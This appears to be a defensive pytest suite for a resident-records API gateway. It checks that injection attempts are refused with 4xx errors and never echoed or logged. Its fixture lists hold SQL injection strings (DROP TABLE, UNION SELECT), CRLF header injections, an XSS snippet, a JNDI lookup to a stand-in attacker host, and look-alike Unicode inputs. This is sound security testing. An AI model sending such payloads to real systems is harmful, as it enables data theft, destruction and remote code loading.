"""Hostile input: SQL injection, oversized and look-alike Unicode input, header injection,
oversized bodies. Each is refused with the right 4xx problem+json (or, for a search
name, simply finds nobody), nothing is echoed, and nothing is logged raw."""

from __future__ import annotations

import json
import logging
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.attacks.conftest import Target, assert_problem, residents_in

SQLI = [
    "' OR '1'='1",
    "x'; DROP TABLE residents; --",
    '" OR 1=1 --',
    "a' UNION SELECT nik, full_name FROM residents --",
    "%' OR full_name LIKE '%",
    "1; SELECT pg_sleep(5)",
]
CONFUSABLE = [
    "B\u0430mb\u0430ng",  # Cyrillic a
    "Bam\u200bbang",  # zero-width space
    "\u202eg\u0646abmaB",  # right-to-left override
    "\uff22\uff21\uff2d\uff22\uff21\uff2e\uff27",  # fullwidth
    "Bambang\x00",
    "Ba\u0301mbang\u0307",  # combining marks
    "\U0001d401\U0001d41a\U0001d426",  # mathematical bold letters
]
OFFICER_INJECTIONS = [
    "officer.01\r\nX-Admin: true",
    "officer.01\nSet-Cookie: a=b",
    "officer.01\x00",
    "offic\u0435r.01",  # Cyrillic e
    "officer 01",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "officer.01\u2028audit",
    "o" * 300,
    "'; DELETE FROM events; --",
]


def _all_text(target: Target, caplog: pytest.LogCaptureFixture) -> str:
    """The gateway's own logs (not those of the test's HTTP client, which logs its URLs)."""
    ours = [r.getMessage() for r in caplog.records if not r.name.startswith(("httpx", "httpcore"))]
    return target.logs() + "\n".join(ours)


def _distinctive(values: list[str]) -> list[str]:
    """The parts of attack strings that would betray a raw copy in a log (not the
    harmless officer id some of them start with)."""
    found = []
    for v in values:
        for part in (v, v.strip(), v.replace("\x00", ""), v.removeprefix("officer.01")):
            if len(part.strip()) >= 6 and part.strip() != "officer.01":
                found.append(part)
    return found


@pytest.fixture
async def logged(caplog: pytest.LogCaptureFixture) -> AsyncIterator[None]:
    caplog.set_level(logging.INFO)
    yield


async def test_sql_injection_in_search_finds_nobody_and_breaks_nothing(
    caplog: pytest.LogCaptureFixture,
    logged: None,
    target: Target,
    attack_sources: Path,
) -> None:
    resident = residents_in(attack_sources)[0]
    h = await target.headers("demo-dinsos")
    with sqlite3.connect(attack_sources / "civil.db") as conn:
        before = conn.execute("SELECT count(*) FROM residents").fetchone()[0]
    for name in SQLI:
        r = await target.client.post(
            "/v1/residents/search",
            headers=h,
            json={"name": name, "address": {"kelurahan_code": resident["kelurahan_code"]}},
        )
        if r.status_code == 200:
            assert r.json()["matches"] == [], (name, r.json()["matches"])
        else:
            assert_problem(r, 422)
    for street in SQLI:
        r = await target.client.post(
            "/v1/residents/search",
            headers=h,
            json={
                "name": resident["full_name"],
                "address": {"kelurahan_code": resident["kelurahan_code"], "street": street},
            },
        )
        assert r.status_code in (200, 422), r.text
    # Injection in fields that are validated by shape is refused outright.
    assert_problem(
        await target.client.post(
            "/v1/residents/search",
            headers=h,
            json={"name": "Budi", "address": {"kelurahan_code": "35.78' OR 1=1 --"}},
        ),
        422,
        "invalid_request",
    )
    assert_problem(
        await target.client.get("/v1/residents/3578' OR '1'='1", headers=h), 422, "invalid_nik"
    )
    assert_problem(
        await target.client.get(
            f"/v1/residents/{resident['nik']}",
            headers=h,
            params={"fields": "full_name FROM residents --,nik"},
        ),
        422,
        "invalid_fields",
    )
    auditor = {"Authorization": f"Bearer {await target.token('demo-auditor')}"}
    r = await target.client.get(
        "/audit/events",
        headers=auditor,
        params={"agency": "x' OR '1'='1", "officer": "' OR 1=1 --"},
    )
    assert r.status_code == 200 and r.json()["events"] == []
    assert_problem(
        await target.client.get(
            "/audit/events", headers=auditor, params={"subject_nik": "' OR 1=1 --"}
        ),
        422,
        "invalid_nik",
    )
    # The sources and the gateway are intact.
    with sqlite3.connect(attack_sources / "civil.db") as conn:
        assert conn.execute("SELECT count(*) FROM residents").fetchone()[0] == before
    ok = await target.client.get(f"/v1/residents/{resident['nik']}", headers=h)
    assert ok.status_code == 200, ok.text
    logs = _all_text(target, caplog)
    assert '"route"' in logs, "the access log was captured"
    for s in _distinctive(SQLI):
        assert s not in logs
    assert resident["nik"] not in logs and resident["full_name"] not in logs


async def test_oversized_and_confusable_search_input_is_refused(
    caplog: pytest.LogCaptureFixture,
    logged: None,
    target: Target,
    attack_sources: Path,
) -> None:
    resident = residents_in(attack_sources)[0]
    h = await target.headers("demo-dinsos")
    address = {"kelurahan_code": resident["kelurahan_code"]}
    for name in ("x" * 121, "Budi " * 5000, "\u0430" * 500):
        body = assert_problem(
            await target.client.post(
                "/v1/residents/search", headers=h, json={"name": name, "address": address}
            ),
            422,
            "invalid_request",
        )
        assert name[:50] not in json.dumps(body, ensure_ascii=False)
    for bad in (
        {"name": "Budi", "address": {}},
        {"name": "", "address": address},
        {"name": "Budi", "address": address, "limit": 10_000},
        {"name": "Budi", "address": address, "extra": "x"},
        {"name": ["Budi"], "address": address},
        {"name": {"$ne": ""}, "address": address},
    ):
        r = await target.client.post("/v1/residents/search", headers=h, json=bad)
        assert r.status_code == 422, (bad, r.text)
        assert_problem(r, 422)
    for name in CONFUSABLE:
        r = await target.client.post(
            "/v1/residents/search", headers=h, json={"name": name, "address": address}
        )
        assert r.status_code in (200, 422), (name, r.text)
        if r.status_code == 422:
            assert_problem(r, 422)
    # Look-alike digits are not a NIK: only ASCII digits are.
    nik = resident["nik"]
    for fake in (
        "".join(chr(0xFF10 + int(c)) for c in nik),  # fullwidth
        "".join(chr(0x0660 + int(c)) for c in nik),  # Arabic-Indic
        nik + "\u200b",
        nik[:-1] + "\U0001d7ce",
        "%20" + nik,
        nik + "%0A",
    ):
        assert_problem(
            await target.client.get(f"/v1/residents/{fake}", headers=h), 422, "invalid_nik"
        )
    assert_problem(
        await target.client.post("/v1/residents/batch", headers=h, json={"niks": [nik] * 1001}),
        422,
        "invalid_request",
    )
    logs = _all_text(target, caplog)
    for s in _distinctive(CONFUSABLE):
        assert s not in logs
    assert nik not in logs and resident["full_name"] not in logs


async def test_header_injection_in_on_behalf_of_is_refused_and_not_recorded(
    caplog: pytest.LogCaptureFixture,
    logged: None,
    target: Target,
    attack_sources: Path,
) -> None:
    nik = residents_in(attack_sources)[0]["nik"]
    h = await target.headers("demo-dinsos")
    for officer in OFFICER_INJECTIONS:
        r = await target.client.get(
            f"/v1/residents/{nik}",
            headers={**h, "X-On-Behalf-Of": officer.encode("utf-8")},  # type: ignore[arg-type]
        )
        body = assert_problem(r, 422, "invalid_officer")
        assert "X-Admin" not in r.headers and "set-cookie" not in r.headers
        assert officer.strip() not in json.dumps(body, ensure_ascii=False)
    for purpose in (
        "social_assistance\r\nX-Admin: true",
        "social_assistance' OR 1=1",
        "SOCIAL_ASSISTANCE",
        "social_assistanc\u0435",
    ):
        r = await target.client.get(
            f"/v1/residents/{nik}",
            headers={**h, "X-Purpose": purpose.encode("utf-8")},  # type: ignore[arg-type]
        )
        assert_problem(r, 422, "invalid_purpose")
    r = await target.client.get(
        f"/v1/residents/{nik}",
        headers={**h, "X-Request-Id": b"abc\r\nX-Admin: 1"},  # type: ignore[arg-type]
    )
    assert r.status_code == 200 and "\n" not in r.headers["x-request-id"]
    assert "X-Admin" not in r.headers
    # Refused calls are on the record as errors, without the raw header values.
    auditor = {"Authorization": f"Bearer {await target.token('demo-auditor')}"}
    events = (
        await target.client.get(
            "/audit/events",
            headers=auditor,
            params={"agency": "dinsos", "decision": "error", "limit": 100},
        )
    ).json()["events"]
    refused = [e for e in events if e["reason"] == "invalid_officer"]
    assert len(refused) == len(OFFICER_INJECTIONS)
    assert all(e["officer"] is None for e in refused)
    recorded = json.dumps(events, ensure_ascii=False)
    logs = _all_text(target, caplog)
    for s in _distinctive(OFFICER_INJECTIONS):
        assert s not in recorded and s not in logs
    assert nik not in logs


async def test_bodies_over_the_size_limit_answer_413_even_when_chunked(
    caplog: pytest.LogCaptureFixture,
    logged: None,
    target: Target,
) -> None:
    limit = target.settings.max_body_bytes
    h = await target.headers("demo-dinsos")
    admin = {"Authorization": f"Bearer {await target.token('demo-admin')}"}
    marker = "Z9q" * 10
    big = json.dumps({"name": marker + "x" * (limit + 10), "address": {"rt": "001"}})
    for path, headers, content in (
        ("/v1/residents/search", h, big),
        ("/v1/residents/batch", h, json.dumps({"niks": ["3578" + "0" * 12] * (limit // 10)})),
        ("/v1/pseudonyms/resolve", h, json.dumps({"pseudonym": "p" * (limit + 1)})),
        ("/admin/policies", admin, json.dumps({"files": {"a.yaml": "x" * (limit + 1)}})),
        (
            "/oauth/token",
            {"Content-Type": "application/x-www-form-urlencoded"},
            "grant_type=client_credentials&scope=" + "a" * (limit + 1),
        ),
    ):
        headers = {"Content-Type": "application/json", **headers}
        r = await target.client.post(path, headers=headers, content=content)
        assert r.status_code == 413, (path, r.text)
        assert_problem(r, 413, "payload_too_large")

        async def chunks(data: bytes = content.encode()) -> AsyncIterator[bytes]:
            for i in range(0, len(data), 16_384):
                yield data[i : i + 16_384]

        # Without a Content-Length (chunked), the limit holds while reading.
        r = await target.client.post(path, headers=headers, content=chunks())
        assert r.status_code == 413, ("chunked", path, r.text)
        assert_problem(r, 413, "payload_too_large")
    # A lying Content-Length is refused too.
    r = await target.client.post(
        "/v1/residents/search", headers={**h, "Content-Length": "-1"}, content=b"{}"
    )
    assert r.status_code in (400, 413), r.text
    logs = _all_text(target, caplog)
    assert marker not in logs


async def test_unknown_fields_are_not_echoed(target: Target, attack_sources: Path) -> None:
    """A NIK or a name typed into ``fields`` comes back neither in the 422 nor in a log."""
    resident, other = residents_in(attack_sources, n=2)
    h = await target.headers("demo-dinsos")
    for fields in (f"full_name,{other['nik']}", f"{other['full_name']},nik"):
        r = await target.client.get(
            f"/v1/residents/{resident['nik']}", headers=h, params={"fields": fields}
        )
        assert_problem(r, 422, "invalid_fields")
        assert other["nik"] not in r.text and other["full_name"] not in r.text
    r = await target.client.post(
        "/v1/residents/batch", headers=h, json={"niks": [resident["nik"]], "fields": [other["nik"]]}
    )
    assert_problem(r, 422, "invalid_fields")
    assert other["nik"] not in r.text
    assert other["nik"] not in target.logs() and other["full_name"] not in target.logs()
